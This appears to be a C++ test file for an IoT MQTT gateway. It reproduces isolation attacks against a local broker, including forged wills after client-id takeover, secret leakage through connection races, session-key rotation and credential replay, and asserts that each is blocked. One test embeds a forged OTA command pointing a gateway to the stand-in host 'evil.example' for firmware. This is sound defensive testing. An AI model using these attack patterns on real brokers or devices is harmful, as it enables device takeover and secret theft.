// Isolation attacks by a client that holds one device's or one product's credentials (issue 15), each reproduced
// against a real broker and Redis with real MQTT clients, and what stops it (docs/security.md).
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <rapidjson/document.h>

#include "iotgate/crypto.h"
#include "iotgate/lierda/lierda.h"
#include "stack.h"

namespace iotgate::test {
namespace {

using std::chrono::milliseconds;
using std::chrono::seconds;


std::string auth_request(const std::string& pid, const std::string& eui, int type) {
  return R"({"MessageId":9,"HeaderCtrl":1,"Payload":{"OpenID":")" + kOpenid + R"(","ProductID":")" + pid +
         R"(","NodeEui":")" + eui + R"(","Type":)" + std::to_string(type) + R"(},"Version":"2.0"})";
}

// A TCP connection that speaks MQTT 3.1.1 by hand, so that a test decides when each packet reaches the broker.
class RawMqtt {
 public:
  explicit RawMqtt(int port) {
    fd_ = socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_port = htons(static_cast<uint16_t>(port));
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (fd_ < 0 || ::connect(fd_, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0)
      throw std::runtime_error("RawMqtt: cannot connect");
  }
  ~RawMqtt() {
    if (fd_ >= 0) close(fd_);
  }
  static std::string connect_packet(const std::string& client_id, const std::string& user, const std::string& pw) {
    std::string body = field("MQTT") + std::string("\x04\xC2\x00\x3C", 4) + field(client_id) + field(user) + field(pw);
    return std::string(1, '\x10') + length(body.size()) + body;
  }
  static std::string publish_packet(const std::string& topic, const std::string& payload) {  // QoS 0
    std::string body = field(topic) + payload;
    return std::string(1, '\x30') + length(body.size()) + body;
  }
  void send_bytes(const std::string& bytes) {
    if (::send(fd_, bytes.data(), bytes.size(), MSG_NOSIGNAL) != static_cast<ssize_t>(bytes.size()))
      throw std::runtime_error("RawMqtt: short send");
  }
  // Everything the broker sends within `wait`.
  std::string receive(milliseconds wait) {
    std::string got;
    auto deadline = std::chrono::steady_clock::now() + wait;
    while (true) {
      auto left = std::chrono::duration_cast<milliseconds>(deadline - std::chrono::steady_clock::now()).count();
      if (left <= 0) return got;
      pollfd p{fd_, POLLIN, 0};
      if (poll(&p, 1, static_cast<int>(left)) <= 0) return got;
      char buf[4096];
      ssize_t n = recv(fd_, buf, sizeof buf, 0);
      if (n <= 0) return got;
      got.append(buf, static_cast<size_t>(n));
    }
  }

 private:
  static std::string field(const std::string& s) {
    return std::string(1, static_cast<char>(s.size() >> 8)) + static_cast<char>(s.size() & 0xFF) + s;
  }
  static std::string length(size_t n) {
    std::string out;
    do {
      char byte = static_cast<char>(n % 128);
      n /= 128;
      if (n) byte = static_cast<char>(byte | 0x80);
      out.push_back(byte);
    } while (n);
    return out;
  }
  int fd_ = -1;
};

class SecurityTest : public StackTest {
 protected:
  void seed() override {
    add_lierda_product(kPid, 1);
    add_lierda_device(kPid, kEui, kSecret);
    add_lierda_product("A2222222", 2, /*encrypted=*/true);
    add_lierda_device("A2222222", "VICTIM0001", kSecret);
    cli({"product", "add", "lierda", "--openid", kOpenid, "--product-id", "A0000000", "--product-key", kKey,
         "--auth-type", "0", "--limit", "2"});
    cli({"product", "add", "krt", "--product-id", "KP1", "--product-secret", "product-secret-1", "--dynamic-register",
         "--auto-create"});
    cli({"device", "add", "krt", "--product-id", "KP1", "--device-id", "KD1", "--secret", "kd1-secret"});
    cli({"device", "add", "krt", "--product-id", "KP1", "--device-id", "KD2", "--secret", "kd2-secret"});
    cli({"product", "add", "emu", "--product-key", "PK1"});
    cli({"device", "add", "emu", "--product-key", "PK1", "--device", "gw1", "--secret", "gw1-secret"});
    cli({"account", "add", "backend", "--password", "backend-pw", "--allow", "read /sys/#", "--allow",
         "write /sys/+/+/+/downlink", "--allow", "write v1/#"});
    cli({"account", "add", "reader", "--password", "reader-pw", "--allow", "read /sys/#"});
  }
  std::map<std::string, std::string> plugin_options() override { return {{"log_level", "debug"}}; }
  const std::string P = "/sys/" + kOpenid + "/" + kPid + "/" + kEui + "/";
};

// Accounts may use any client id here: what a takeover by an account can do to a will (bound ids stop the takeover
// itself; this checks the will on its own).
class SecurityFreeClientIdsTest : public SecurityTest {
 protected:
  std::map<std::string, std::string> plugin_options() override {
    return {{"log_level", "debug"}, {"bind_account_client_ids", "false"}};
  }
};

// --- 1. a will is judged with the rights of the connection that set it -------------------------------------------

TEST_F(SecurityTest, AKrtDevicesWillCannotForgeAnotherDevicesEventWhenItsClientIdIsTakenOver) {
  auto watcher = observer("#");
  MqttClient attacker("KP1");  // the KRT seed's shared client id
  attacker.set_will("/sys/KP1/KD2/thing/event/post", "forged", 1, true);
  ASSERT_EQ(attacker.connect(broker->port(), "KD1", "kd1-secret"), 0);
  // KD2 connects with the same id, as the seed has every device do: mosquitto sends KD1's will right then.
  auto victim = connect("KP1", "KD2", "kd2-secret");
  ASSERT_TRUE(victim->connected());
  EXPECT_TRUE(attacker.wait_disconnected(seconds(3)));
  EXPECT_TRUE(log_has("denied publish to '/sys/KP1/KD2/thing/event/post' for client 'KP1'"));
  EXPECT_FALSE(watcher->wait_message("/sys/KP1/KD2/thing/event/post", milliseconds(700)));
  auto late = observer("/sys/KP1/KD2/#");  // nothing was retained either
  EXPECT_FALSE(late->wait_message("#", milliseconds(500)));
  // The victim's own will still goes out: the rule is "its own rights", not "no wills".
  MqttClient honest("KP1.KD1");
  honest.set_will("/sys/KP1/KD1/thing/event/post", "bye", 1);
  ASSERT_EQ(honest.connect(broker->port(), "KD1", "kd1-secret"), 0);
  honest.drop_connection();
  auto bye = watcher->wait_message("/sys/KP1/KD1/thing/event/post", seconds(3));
  ASSERT_TRUE(bye);
  EXPECT_EQ(bye->payload, "bye");
}

TEST_F(SecurityTest, ARegistrationSessionsWillCannotForgeAnotherDevicesOtaReport) {
  auto watcher = observer("#");
  MqttClient registrant("KP1");
  registrant.set_will("/sys/KP1/KD2/thing/ota/post", R"({"CMD":10,"ID":"1","FW_VERSION":"9.9"})", 1);
  ASSERT_EQ(registrant.connect(broker->port(), "NEW1", "product-secret-1"), 0);  // registration only
  auto victim = connect("KP1", "KD2", "kd2-secret");
  EXPECT_TRUE(registrant.wait_disconnected(seconds(3)));
  EXPECT_FALSE(watcher->wait_message("/sys/KP1/KD2/thing/ota/post", milliseconds(700)));
}

TEST_F(SecurityFreeClientIdsTest, AReadOnlyAccountsWillCannotForgeARetainedDownlinkWhenAWriterTakesItsIdOver) {
  auto device = connect_v2(v2_creds(kPid, kEui, kSecret, 0, 1));
  ASSERT_LT(device->subscribe(P + "downlink", 1), 128);
  MqttClient attacker("shared-1");
  attacker.set_will(P + "downlink", R"({"MessageId":1,"HeaderCtrl":7,"Payload":"forged","Version":"2.0"})", 1, true);
  ASSERT_EQ(attacker.connect(broker->port(), "reader", "reader-pw"), 0);
  auto writer = connect("shared-1", "backend", "backend-pw");  // may write downlinks: its rights must not count
  EXPECT_TRUE(attacker.wait_disconnected(seconds(3)));
  EXPECT_FALSE(device->wait_message(P + "downlink", milliseconds(700)));
  device->disconnect();
  auto again = connect_v2(v2_creds(kPid, kEui, kSecret, 0, 2));  // and nothing retained for the next session
  ASSERT_LT(again->subscribe(P + "downlink", 1), 128);
  EXPECT_FALSE(again->wait_message(P + "downlink", milliseconds(500)));
}

TEST_F(SecurityFreeClientIdsTest, AnAccountsWillCannotSendAGatewayAnUpgradeCommand) {
  MqttClient gateway("gw1");
  ASSERT_EQ(gateway.connect(broker->port(), "gw1", "gw1-secret"), 0);
  ASSERT_LT(gateway.subscribe("v1/wudun/PK1/gw1/ota/+/command", 1), 128);
  MqttClient attacker("shared-2");
  attacker.set_will("v1/wudun/PK1/gw1/ota/emu_upgrade/command",
                    R"({"mid":"1","type":"emu_upgrade","data":{"download_url":"http://evil.example/fw","md5_code":"0"}})",
                    1);
  ASSERT_EQ(attacker.connect(broker->port(), "reader", "reader-pw"), 0);
  auto writer = connect("shared-2", "backend", "backend-pw");
  EXPECT_TRUE(attacker.wait_disconnected(seconds(3)));
  EXPECT_FALSE(gateway.wait_message("#", milliseconds(700)));
}

// --- 2. a secret reaches the connection that asked, or nobody --------------------------------------------------

TEST_F(SecurityTest, ARegistrationSecretNeverReachesAConnectionThatTookTheClientIdOver) {
  const std::string post = "/sys/KP1/NEW1/thing/register/post", set = "/sys/KP1/NEW1/thing/register/set";
  std::string secret;
  {  // NEW1 registers and is told its secret; it does not confirm, so a later request is answered from memory
    MqttClient first("KP1");
    ASSERT_EQ(first.connect(broker->port(), "NEW1", "product-secret-1"), 0);
    ASSERT_EQ(first.publish(post, R"({"CMD":20,"ID":"1"})", 1), 0);
    auto m = first.wait_message(set, seconds(3));
    ASSERT_TRUE(m) << broker->log();
    secret = parse(m->payload)["DeviceSecret"].GetString();
    ASSERT_FALSE(secret.empty());
  }
  int asker_answered = 0;
  for (int attempt = 0; attempt < 5; ++attempt) {
    RawMqtt asker(broker->port()), thief(broker->port());
    asker.send_bytes(RawMqtt::connect_packet("KP1", "NEW1", "product-secret-1"));
    ASSERT_NE(asker.receive(milliseconds(300)).find(std::string("\x20\x02\x00\x00", 4)), std::string::npos);
    // Both packets wait in the broker's sockets, so that it reads them in one loop iteration: first the request,
    // then KD1's login with the same client id (KD1 holds only its own DeviceSecret).
    broker->pause();
    asker.send_bytes(RawMqtt::publish_packet(post, R"({"CMD":20,"ID":"again"})"));
    thief.send_bytes(RawMqtt::connect_packet("KP1", "KD1", "kd1-secret"));
    std::this_thread::sleep_for(milliseconds(50));
    broker->resume();
    std::string stolen = thief.receive(milliseconds(500));
    EXPECT_NE(stolen.find(std::string("\x20\x02\x00\x00", 4)), std::string::npos) << "attempt " << attempt;
    EXPECT_EQ(stolen.find(secret), std::string::npos) << "attempt " << attempt << ": the secret reached KD1";
    if (asker.receive(milliseconds(100)).find(secret) != std::string::npos) ++asker_answered;
  }
  EXPECT_TRUE(log_has("has left or is now another connection"));
  EXPECT_EQ(broker->log().find(secret), std::string::npos);
  std::cout << "asker answered in " << asker_answered << " of 5 attempts (it lost its id in each)\n";
}

TEST_F(SecurityTest, AnAuthReplyNeverReachesAConnectionThatTookTheClientIdOver) {
  const std::string cid = std::string(kPid) + "-" + kEui, user = "AUTH-" + kOpenid + "-" + kPid;
  for (int attempt = 0; attempt < 3; ++attempt) {
    RawMqtt asker(broker->port()), thief(broker->port());
    asker.send_bytes(RawMqtt::connect_packet(cid, user, kKey));
    ASSERT_NE(asker.receive(milliseconds(300)).find(std::string("\x20\x02\x00\x00", 4)), std::string::npos);
    broker->pause();
    asker.send_bytes(RawMqtt::publish_packet("/sys/device/auth", auth_request(kPid, kEui, 1)));
    thief.send_bytes(RawMqtt::connect_packet(cid, user, kKey));
    std::this_thread::sleep_for(milliseconds(50));
    broker->resume();
    EXPECT_EQ(thief.receive(milliseconds(500)).find(kSecret), std::string::npos) << "attempt " << attempt;
  }
}

// --- 3. only the device itself gets or changes its session key -------------------------------------------------

TEST_F(SecurityTest, AProductKeyHolderCannotRotateOrLearnAnEncryptedDevicesSessionKey) {
  const std::string prefix = "/sys/" + kOpenid + "/A2222222/VICTIM0001/";
  V2Creds creds = v2_creds("A2222222", "VICTIM0001", kSecret, 0, 1);
  auto victim = connect_v2(creds);
  ASSERT_LT(victim->subscribe(prefix + "downlink", 1), 128);
  // Its V2 session, proven by its DeviceSecret, is told its key.
  auto notice = victim->wait_message(prefix + "downlink", seconds(3));
  ASSERT_TRUE(notice) << broker->log();
  auto n = parse(notice->payload);
  ASSERT_EQ(n["HeaderCtrl"].GetInt(), 3);
  std::string key = *lierda_session_key(kKey, n["Payload"]["SessionID"].GetString(), n["Payload"]["Nonce"].GetUint());
  const std::string device_key = "iotgate:device:A2222222:VICTIM0001";
  EXPECT_EQ(redis.cli({"HGET", device_key, "session_key"}), key);

  // The attacker holds the ProductKey (as every device of the product does) and asks for the victim's NodeEui.
  MqttClient attacker("A2222222-VICTIM0001");
  ASSERT_EQ(attacker.connect(broker->port(), "AUTH-" + kOpenid + "-A2222222", kKey), 0);
  ASSERT_LT(attacker.subscribe(prefix + "downlink", 1), 128);  // granted, as the protocol says, but it reads nothing
  ASSERT_EQ(attacker.publish("/sys/device/auth", auth_request("A2222222", "VICTIM0001", 2), 1), 0);
  auto reply = attacker.wait_message(prefix + "downlink", seconds(3));
  ASSERT_TRUE(reply);
  auto r = parse(reply->payload);
  EXPECT_EQ(r["Payload"]["Code"].GetInt(), 0);
  EXPECT_FALSE(r["Payload"].HasMember("SessionID")) << reply->payload;
  EXPECT_FALSE(r["Payload"].HasMember("Nonce")) << reply->payload;
  EXPECT_FALSE(r["Payload"].HasMember("DeviceSecret")) << reply->payload;
  std::this_thread::sleep_for(milliseconds(300));
  EXPECT_EQ(redis.cli({"HGET", device_key, "session_key"}), key);  // not rotated

  // The victim's ack still decrypts under its own key.
  std::string frame = R"({"MessageId":77,"HeaderCtrl":4,"Payload":")" +
                      to_hex_upper(aes128_ecb_encrypt(*from_hex(key), R"({"power":1})")) + R"(","Version":"2.0"})";
  ASSERT_EQ(victim->publish(prefix + "uplink", frame, 1), 0);
  auto ack = victim->wait_message(prefix + "uplink_ack", seconds(3));
  ASSERT_TRUE(ack);
  EXPECT_TRUE(aes128_ecb_decrypt(*from_hex(key), *from_hex(parse(ack->payload)["Payload"].GetString())));

  // A back end's downlink to the victim reaches the victim, not the AUTH session subscribed to it.
  auto backend = connect("backend", "backend", "backend-pw");
  ASSERT_EQ(backend->publish(prefix + "downlink", R"({"MessageId":5,"HeaderCtrl":7,"Payload":"x","Version":"2.0"})", 1),
            0);
  EXPECT_TRUE(victim->wait_message(prefix + "downlink", seconds(3)));
  EXPECT_FALSE(attacker.wait_message(prefix + "downlink", milliseconds(500)));
}

// --- the weak spots ---------------------------------------------------------------------------------------------

TEST_F(SecurityTest, GatewaysAndAccountsCannotTakeAnotherClientsIdAndKickIt) {
  auto backend = connect("backend", "backend", "backend-pw");
  auto auth = connect(std::string(kPid) + "-" + kEui, "AUTH-" + kOpenid + "-" + kPid, kKey);
  for (const std::string& id : {std::string("backend"), std::string(kPid) + "-" + kEui, std::string("gw1-x")}) {
    MqttClient gateway(id);
    EXPECT_EQ(gateway.connect(broker->port(), "gw1", "gw1-secret"), 135) << id;
  }
  EXPECT_FALSE(connect("backend:2", "reader", "reader-pw", 135)->connected());
  EXPECT_TRUE(log_has("client id is not 'gw1' or 'gw1:...'"));
  std::this_thread::sleep_for(milliseconds(200));
  EXPECT_TRUE(backend->connected());
  EXPECT_TRUE(auth->connected());
  EXPECT_TRUE(connect("gw1:main", "gw1", "gw1-secret")->connected());
  EXPECT_TRUE(connect("backend:2", "backend", "backend-pw")->connected());
}

TEST_F(SecurityTest, ATimestampIsAcceptedInItsCanonicalSpellingOnly) {
  int64_t ts = unix_now();
  V2Creds good = v2_creds(kPid, kEui, kSecret, 1, ts);
  auto device = connect_v2(good);
  // The same password under "0" + timestamp would be a second, parallel session.
  std::string padded = "V2_" + kPid + "." + kEui + "_1_0" + std::to_string(ts);
  EXPECT_FALSE(connect(padded, good.username, good.password, 135)->connected());
  EXPECT_TRUE(log_has("malformed V2 client id"));
  EXPECT_TRUE(device->connected());
}

TEST_F(SecurityTest, ATimestampAheadOfTheClockIsNotReplayableAfterTheSessionEnds) {
  V2Creds ahead = v2_creds(kPid, kEui, kSecret, 1, unix_now() + 30);  // within the clock skew
  auto device = connect_v2(ahead);
  device->disconnect();
  std::this_thread::sleep_for(milliseconds(300));
  EXPECT_FALSE(connect_v2(ahead, 135)->connected());  // captured and replayed
  EXPECT_TRUE(log_has("is not after the device's last offline time"));
}

TEST_F(SecurityTest, Type0AuthRequestsCreateDevicesOnlyUpToTheProductsLimit) {
  auto request = [&](const std::string& eui) {
    MqttClient c("A0000000-" + eui);
    EXPECT_EQ(c.connect(broker->port(), "AUTH-" + kOpenid + "-A0000000", kKey), 0);
    EXPECT_EQ(c.publish("/sys/device/auth", auth_request("A0000000", eui, 0), 1), 0);
    auto m = c.wait_message("/sys/" + kOpenid + "/A0000000/" + eui + "/downlink", seconds(3));
    return m ? parse(m->payload)["Payload"]["Code"].GetInt() : -1;
  };
  EXPECT_EQ(request("MADE0001"), 0);
  EXPECT_EQ(request("MADE0002"), 0);
  EXPECT_EQ(request("MADE0003"), 4);  // --limit 2
  EXPECT_TRUE(log_has("auto-creation limit of product A0000000 reached"));
  EXPECT_EQ(redis.cli({"EXISTS", "iotgate:device:A0000000:MADE0003"}), "0");
  EXPECT_EQ(redis.cli({"SCARD", "iotgate:devices:A0000000"}), "2");
  EXPECT_EQ(request("MADE0001"), 0);  // the devices it made still get their secrets
}

TEST_F(SecurityTest, ADeletedDevicesRetainedMessagesAreNotServedToADeviceCreatedAgainWithItsId) {
  {
    auto device = connect_v2(v2_creds(kPid, kEui, kSecret, 0, 1));
    ASSERT_EQ(device->publish(P + "config_report", R"({"MessageId":1,"HeaderCtrl":14,"Payload":{},"Version":"2.0"})",
                              1, /*retain=*/true),
              0);
    auto backend = connect("backend", "backend", "backend-pw");
    ASSERT_EQ(backend->publish(P + "downlink", R"({"MessageId":2,"HeaderCtrl":7,"Payload":"old","Version":"2.0"})", 1,
                               /*retain=*/true),
              0);
  }
  std::this_thread::sleep_for(milliseconds(300));  // the plugin records both topics in Redis
  EXPECT_EQ(redis.cli({"SCARD", "iotgate:retained:" + kPid + ":" + kEui}), "2");
  cli({"device", "delete", kPid, kEui});
  EXPECT_TRUE(log_has("cleared 2 retained messages of a deleted device"));
  add_lierda_device(kPid, kEui, kSecret);
  std::this_thread::sleep_for(milliseconds(300));
  auto again = connect_v2(v2_creds(kPid, kEui, kSecret, 0, 2));
  ASSERT_LT(again->subscribe(P + "#", 1), 128);
  auto watcher = observer(P + "#");
  EXPECT_FALSE(again->wait_message("#", milliseconds(500)));
  EXPECT_FALSE(watcher->wait_message("#", milliseconds(300)));
}

class BanTest : public SecurityTest {
 protected:
  std::map<std::string, std::string> plugin_options() override {
    return {{"auth_fail_limit", "5"}, {"auth_spray_usernames", "3"}};
  }
  int login_from(const std::string& address, const V2Creds& c, const std::string& password) {
    MqttClient client(c.client_id);
    client.set_bind_address(address);
    return client.connect(broker->port(), c.username, password);
  }
};

TEST_F(BanTest, OneClientsFailuresLockOutNoOtherDeviceBehindTheSameAddress) {
  add_lierda_device(kPid, "NEIGHBOUR1", kSecret);
  std::this_thread::sleep_for(milliseconds(300));
  V2Creds attacked = v2_creds(kPid, kEui, kSecret, 0, 1), neighbour = v2_creds(kPid, "NEIGHBOUR1", kSecret, 0, 1);
  for (int i = 0; i < 5; ++i) EXPECT_EQ(login_from("127.0.0.2", attacked, "guess"), 135);
  EXPECT_TRUE(log_has("banning address 127.0.0.2 for username '" + attacked.username + "'"));
  EXPECT_EQ(login_from("127.0.0.2", attacked, "guess"), 135);              // that pair is banned
  EXPECT_TRUE(log_has("for this username after repeated failed logins"));
  // Behind a load balancer the attacked device has the attacker's address: its valid password gets in (issue 18).
  EXPECT_EQ(login_from("127.0.0.2", attacked, attacked.password), 0);
  EXPECT_EQ(login_from("127.0.0.2", neighbour, neighbour.password), 0);    // the same address, another device
  EXPECT_EQ(login_from("127.0.0.1", attacked, attacked.password), 0);      // the same device elsewhere
  // Spraying: failures under several usernames ban the whole address: guesses are refused unchecked, valid
  // device credentials still pass.
  for (const std::string eui : {"SPRAY01", "SPRAY02", "SPRAY03", "SPRAY04", "SPRAY05"})
    login_from("127.0.0.3", v2_creds(kPid, eui, kSecret, 0, 1), "guess");
  EXPECT_TRUE(log_has("banning address 127.0.0.3 for 300 s"));
  EXPECT_EQ(login_from("127.0.0.3", neighbour, "guess"), 135);
  EXPECT_TRUE(log_has("address banned until [0-9]+ after repeated failed logins"));
  EXPECT_EQ(login_from("127.0.0.3", neighbour, neighbour.password), 0);
}

}  // namespace
}  // namespace iotgate::test
